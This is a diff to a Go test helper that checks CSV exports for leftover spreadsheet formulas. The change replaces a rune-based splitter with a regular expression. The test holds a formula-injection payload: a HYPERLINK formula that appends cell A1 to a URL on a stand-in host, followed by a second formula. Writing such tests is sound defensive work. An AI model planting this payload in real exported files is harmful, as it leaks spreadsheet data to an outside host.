@@ -144,7 +144,7 @@ const Formula = `=HYPERLINK("http://e.test/?"&A1);=1+1`
 // as it is, or where a number is none any more.
 func CheckFormulas(t *testing.T, name string, write func(render.Options) string) {
 	t.Helper()
-	plainNumber := regexp.MustCompile(`^[+-]?[0-9.,eE+-]+$`)
+	plainNumber, endOfCell := regexp.MustCompile(`^[+-]?[0-9.,eE+-]+$`), regexp.MustCompile(`[,;\t\r\n]`)
 	read := func(o render.Options) (cells []string) {
 		records, err := csv.NewReader(strings.NewReader(write(o))).ReadAll()
 		if err != nil {
@@ -161,7 +161,7 @@ func CheckFormulas(t *testing.T, name string, write func(render.Options) string)
 		if strings.HasPrefix(raw[i], Formula) {
 			found++
 		}
-		for _, part := range strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune(",;\t\r\n", r) }) {
+		for _, part := range endOfCell.Split(cell, -1) {
 			if strings.HasPrefix(part, "=") {
 				t.Errorf("%s: the cell %q", name, cell)
 			}
